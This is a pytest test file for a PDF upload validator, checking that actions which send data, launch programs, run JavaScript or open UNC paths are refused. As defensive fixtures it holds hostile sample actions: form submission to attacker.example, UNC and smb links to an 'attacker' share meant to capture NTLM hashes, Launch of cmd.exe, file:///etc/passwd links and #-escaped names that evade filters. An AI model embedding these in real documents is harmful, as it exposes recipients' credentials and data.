"""PDF actions: what runs by itself may only move inside the document; what a click runs may also
follow a web link; everything else (sending data, opening another file or a UNC path, importing,
launching, scripts, media...) is refused wherever it is reachable, #-escaped names included."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from formservice.uploads.pdf import ACCEPTED_ACTIONS, ACTION_TYPES

from .corpus import one_page, pdf_bytes, raw_pdf
from .helpers import accept, refuse

UNC = "\\\\attacker\\share\\x.pdf"  # \\attacker\share\x.pdf: Windows sends its NTLM hash there


def pdf_object(value: object) -> PdfObject:
    """A pypdf object from Python: '/Name', 'text', numbers, lists, dicts (keys without their '/')."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bool | int):
        return NumberObject(int(value))
    if isinstance(value, float):
        return FloatObject(value)
    if isinstance(value, list):
        return ArrayObject(pdf_object(v) for v in value)
    if isinstance(value, dict):
        return DictionaryObject({NameObject("/" + k): pdf_object(v) for k, v in value.items()})
    raise TypeError(value)


def action(kind: str, **entries: object) -> dict[str, object]:
    return {"Type": "/Action", "S": kind, **entries}


def first_page(w: PdfWriter) -> PdfObject:
    ref = w.pages[0].indirect_reference
    assert ref is not None
    return ref


def goto(w: PdfWriter, **entries: object) -> dict[str, object]:
    """A move to the first page, fitted: the one action that may run by itself."""
    return action("/GoTo", D=[first_page(w), "/Fit"], **entries)


def on_open(make: Callable[[PdfWriter], object]) -> Callable[[], bytes]:
    """A document whose catalogue's /OpenAction is `make(writer)`."""

    def build(w: PdfWriter) -> None:
        w.root_object[NameObject("/OpenAction")] = pdf_object(make(w))

    return lambda: pdf_bytes(build=build)


def on_page(key: str, make: Callable[[PdfWriter], object]) -> Callable[[], bytes]:
    """A document whose first page has `key` (/AA, /Annots...) set to `make(writer)`."""

    def build(w: PdfWriter) -> None:
        w.pages[0][NameObject(key)] = pdf_object(make(w))

    return lambda: pdf_bytes(build=build)


def on_catalog(key: str, make: Callable[[PdfWriter], object]) -> Callable[[], bytes]:
    def build(w: PdfWriter) -> None:
        w.root_object[NameObject(key)] = pdf_object(make(w))

    return lambda: pdf_bytes(build=build)


def link(a: object = None, **entries: object) -> dict[str, object]:
    """A visible link annotation; `a` is what a click on it runs."""
    annot: dict[str, object] = {"Type": "/Annot", "Subtype": "/Link", "Rect": [10, 10, 200, 30], **entries}
    if a is not None:
        annot["A"] = a
    return annot


def field(**entries: object) -> dict[str, object]:
    """A push button of a form (a field merged with its widget annotation)."""
    return {"Type": "/Annot", "Subtype": "/Widget", "FT": "/Btn", "Ff": 65536, "T": "envoyer"} | {
        "Rect": [10, 40, 200, 60],
        **entries,
    }


def with_field(make: Callable[[PdfWriter], dict[str, object]]) -> Callable[[], bytes]:
    """A document with one form field, whose entries (/A, /AA) are `make(writer)`."""

    def build(w: PdfWriter) -> None:
        button = w._add_object(pdf_object(field(P=first_page(w), **make(w))))
        w.pages[0][NameObject("/Annots")] = ArrayObject([button])
        w.root_object[NameObject("/AcroForm")] = pdf_object({"Fields": [button]})

    return lambda: pdf_bytes(build=build)


# ---------------------------------------------------------------------------------------
# Refused


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    # What the document does when it is opened
    "open-uri": (on_open(lambda w: action("/URI", URI="https://tracker.example/ouvert?id=42")), "pdf_action"),
    "open-submit-form": (
        on_open(lambda w: action("/SubmitForm", F={"FS": "/URL", "F": "https://attacker.example/collect"})),
        "pdf_action",
    ),
    "open-gotor-unc-path": (on_open(lambda w: action("/GoToR", F=UNC, D=[0, "/Fit"])), "pdf_action"),
    "open-import-data": (on_open(lambda w: action("/ImportData", F="donnees.fdf")), "pdf_action"),
    "open-launch": (on_open(lambda w: action("/Launch", F="cmd.exe")), "pdf_launch"),
    "open-javascript-name-tree": (
        lambda: pdf_bytes(build=lambda w: w.add_open_action(JavaScript("x"))),
        "pdf_javascript",
    ),
    "open-named-print": (on_open(lambda w: action("/Named", N="/Print")), "pdf_action"),
    "open-page-turn-is-not-automatic": (on_open(lambda w: action("/Named", N="/NextPage")), "pdf_action"),
    "open-goto-then-uri": (
        on_open(lambda w: goto(w, Next=action("/URI", URI="https://tracker.example/"))),
        "pdf_action",
    ),
    "open-goto-then-chain-with-launch": (
        on_open(lambda w: goto(w, Next=[goto(w), action("/Launch", F="calc.exe")])),
        "pdf_launch",
    ),
    "open-goto-with-a-file": (on_open(lambda w: goto(w, F=UNC)), "pdf_action"),
    "open-action-of-unknown-type": (on_open(lambda w: action("/Foo")), "pdf_action"),
    "open-action-not-an-action": (on_open(lambda w: 42), "pdf_action"),
    # Additional actions: document, page, annotation, form field
    "document-aa-uri-before-close": (
        on_catalog("/AA", lambda w: {"WC": action("/URI", URI="https://tracker.example/ferme")}),
        "pdf_action",
    ),
    "page-aa-open-uri": (
        on_page("/AA", lambda w: {"O": action("/URI", URI="https://x.example/")}),
        "pdf_action",
    ),
    "page-aa-open-submit": (
        on_page("/AA", lambda w: {"O": action("/SubmitForm", F="https://x.example/")}),
        "pdf_action",
    ),
    "annotation-aa-mouse-enter-uri": (
        on_page("/Annots", lambda w: [link(AA={"E": action("/URI", URI="https://x.example/survol")})]),
        "pdf_action",
    ),
    "field-aa-keystroke-javascript": (
        with_field(lambda w: {"AA": {"K": action("/JavaScript", JS="app.alert(1)")}}),
        "pdf_javascript",
    ),
    "field-aa-calculate-import": (
        with_field(lambda w: {"AA": {"C": action("/ImportData", F=UNC)}}),
        "pdf_action",
    ),
    "aa-not-a-dictionary": (on_page("/AA", lambda w: [goto(w)]), "pdf_action"),
    # What a click runs
    "button-submit-form": (
        with_field(lambda w: {"A": action("/SubmitForm", F="https://attacker.example/")}),
        "pdf_action",
    ),
    "button-reset-form": (with_field(lambda w: {"A": action("/ResetForm")}), "pdf_action"),
    "link-gotor-unc-path": (
        on_page("/Annots", lambda w: [link(action("/GoToR", F=UNC, D=[0, "/Fit"]))]),
        "pdf_action",
    ),
    "link-goto-embedded": (
        on_page("/Annots", lambda w: [link(action("/GoToE", T={"R": "/C", "N": "a"}))]),
        "pdf_embedded_file",
    ),
    "link-uri-file": (
        on_page("/Annots", lambda w: [link(action("/URI", URI="file:///C:/Windows/win.ini"))]),
        "pdf_action",
    ),
    "link-uri-unc-path": (on_page("/Annots", lambda w: [link(action("/URI", URI=UNC))]), "pdf_action"),
    "link-uri-smb": (
        on_page("/Annots", lambda w: [link(action("/URI", URI="smb://attacker/share"))]),
        "pdf_action",
    ),
    "link-uri-javascript-with-blanks": (
        on_page("/Annots", lambda w: [link(action("/URI", URI=" Java\tScript:alert(1)"))]),
        "pdf_action",
    ),
    "link-uri-relative": (
        on_page("/Annots", lambda w: [link(action("/URI", URI="page.html"))]),
        "pdf_action",
    ),
    "link-uri-not-a-string": (
        on_page("/Annots", lambda w: [link(action("/URI", URI="/Name"))]),
        "pdf_action",
    ),
    "link-uri-then-submit": (
        on_page(
            "/Annots",
            lambda w: [link(action("/URI", URI="https://ac.example/", Next=action("/SubmitForm", F="x")))],
        ),
        "pdf_action",
    ),
    "link-named-menu-item": (
        on_page("/Annots", lambda w: [link(action("/Named", N="/SaveAs"))]),
        "pdf_action",
    ),
    "bookmark-uri-file": (
        on_catalog(
            "/Outlines",
            lambda w: {"Count": 1, "First": {"Title": "x", "A": action("/URI", URI="file:///etc/passwd")}},
        ),
        "pdf_action",
    ),
    # Anywhere reachable: a name tree
    "names-tree-hide": (
        on_catalog("/Names", lambda w: {"Dests": {"Names": ["a", action("/Hide", T="champ")]}}),
        "pdf_action",
    ),
}


@pytest.mark.parametrize(("make", "reason"), list(REFUSED.values()), ids=list(REFUSED))
def test_active_actions_are_refused(put, dest, make, reason):
    """Every action that sends, opens, imports, launches or runs, and every automatic action that
    is not a move inside the document, is refused with a message that says how to get a clean PDF."""
    rejected = refuse(put, dest, make(), "attestation.pdf")
    assert (rejected.reason, rejected.status) == (reason, 422)
    assert "« attestation.pdf »" in rejected.message


def test_the_action_refusal_says_what_to_do(put, dest):
    """The candidate reads what is wrong and the two ways to get an acceptable file."""
    rejected = refuse(put, dest, REFUSED["open-uri"][0](), "attestation.pdf")
    assert rejected.message == (
        "Le PDF « attestation.pdf » contient des actions automatiques (ouverture d'un lien, envoi de "
        "données…) qui ne sont pas acceptées. Imprimez-le en PDF (« Microsoft Print to PDF », "
        "« Enregistrer au format PDF ») ou numérisez-le, puis déposez le nouveau fichier."
    )


NEVER_ACCEPTED = sorted(ACTION_TYPES - ACCEPTED_ACTIONS)


@pytest.mark.parametrize("kind", NEVER_ACCEPTED)
def test_every_other_action_type_is_refused_even_on_a_click(put, dest, kind):
    """/SubmitForm, /ImportData, /Rendition, /Sound, /Movie, /SetOCGState, /Trans...: refused in a
    visible link too, where a click would run them."""
    data = on_page("/Annots", lambda w: [link(action(kind))])()
    assert refuse(put, dest, data, "x.pdf").reason in (
        "pdf_action",
        "pdf_launch",
        "pdf_javascript",
        "pdf_embedded_file",
    )


# ---------------------------------------------------------------------------------------
# Names written with #-escapes, objects the parse does not reach, files the parse refuses


ESCAPED = {
    "escaped-javascript": (
        b"/OpenAction << /#53 /#4Aava#53cript /J#53 (app.alert\\(1\\)) >>",
        "pdf_javascript",
    ),
    "escaped-uri-on-open": (b"/OpenAction << /S /#55RI /URI (https://tracker.example/) >>", "pdf_action"),
    "escaped-submit-form": (
        b"/OpenAction << /S /Subm#69tForm /F (https://attacker.example/) >>",
        "pdf_action",
    ),
    "escaped-launch": (b"/OpenAction << /S /#4C#61unch /F (calc.exe) >>", "pdf_launch"),
    "escaped-gotor": (
        b"/OpenAction << /#53/GoTo#52 /F (\\\\\\\\attacker\\\\s\\\\x.pdf) /D [0 /Fit] >>",
        "pdf_action",
    ),
    "escaped-additional-action": (b"/AA << /#4F << /S /#49mportData /F (x.fdf) >> >>", "pdf_action"),
}


@pytest.mark.parametrize(("catalog", "reason"), list(ESCAPED.values()), ids=list(ESCAPED))
def test_escaped_names_are_decoded_before_they_are_judged(put, dest, catalog, reason):
    """`/#4Aava#53cript` is `/JavaScript`, `/#55RI` is `/URI`: the names are compared decoded."""
    data = raw_pdf(one_page(catalog))
    assert refuse(put, dest, data, "x.pdf").reason == reason


def test_an_action_no_object_points_to_is_found_in_the_bytes(put, dest):
    """Object 4 is in the file but referenced by nothing, so the parse never visits it; a viewer
    that rebuilds a damaged file's table would still find it: the raw bytes are searched too."""
    data = raw_pdf(one_page(more={4: b"<< /Type /Action /#53 /#4C#61unch /F (calc.exe) >>"}))
    assert refuse(put, dest, data, "x.pdf").reason == "pdf_launch"


def test_an_action_in_a_file_the_parse_refuses_is_named_as_such(put, dest):
    """A file pypdf cannot read (its startxref points nowhere) but whose bytes hold an escaped
    script: the candidate is told about the script, not only about a damaged file."""
    good = raw_pdf(one_page(b"/OpenAction << /S /J#61vaScript /JS (x) >>"))
    broken = good.replace(b"startxref\n", b"startxref\n9")
    assert refuse(put, dest, broken, "x.pdf").reason == "pdf_javascript"


# ---------------------------------------------------------------------------------------
# Accepted


ACCEPTED: dict[str, Callable[[], bytes]] = {
    "open-goto-first-page": on_open(lambda w: goto(w)),
    "open-goto-chain": on_open(lambda w: goto(w, Next=[goto(w), goto(w)])),
    "open-goto-next-null": on_open(lambda w: goto(w, Next=NullObject())),
    "open-bare-destination": on_open(lambda w: [first_page(w), "/XYZ", 0, 842, 1]),
    "open-named-destination": on_open(lambda w: "debut"),
    "page-aa-open-goto": on_page("/AA", lambda w: {"O": goto(w)}),
    "document-aa-goto": on_catalog("/AA", lambda w: {"WC": goto(w)}),
    "field-aa-goto": with_field(lambda w: {"AA": {"U": goto(w)}}),
    "link-https": on_page("/Annots", lambda w: [link(action("/URI", URI="https://www.education.gouv.fr/"))]),
    "link-mailto": on_page("/Annots", lambda w: [link(action("/URI", URI="mailto:dec@ac-exemple.fr"))]),
    "link-page-turn": on_page("/Annots", lambda w: [link(action("/Named", N="/NextPage"))]),
    "link-destination": on_page("/Annots", lambda w: [link(Dest=[first_page(w), "/Fit"])]),
    "link-dashed-border": on_page("/Annots", lambda w: [link(goto(w), BS={"S": "/D", "D": [3]})]),
    "bookmark-goto": on_catalog(
        "/Outlines", lambda w: {"Count": 1, "First": {"Title": "Page 1", "A": goto(w)}}
    ),
    "page-labels": on_catalog("/PageLabels", lambda w: {"Nums": [0, {"S": "/r"}]}),
}


@pytest.mark.parametrize("make", list(ACCEPTED.values()), ids=list(ACCEPTED))
def test_moves_inside_the_document_and_web_links_are_accepted(put, dest, make):
    """Opening at a page, bookmarks, page turns, a visible http(s) or mailto link: ordinary PDFs."""
    original = make()
    _, stored = accept(put, dest, original, "releve.pdf")
    assert stored == original
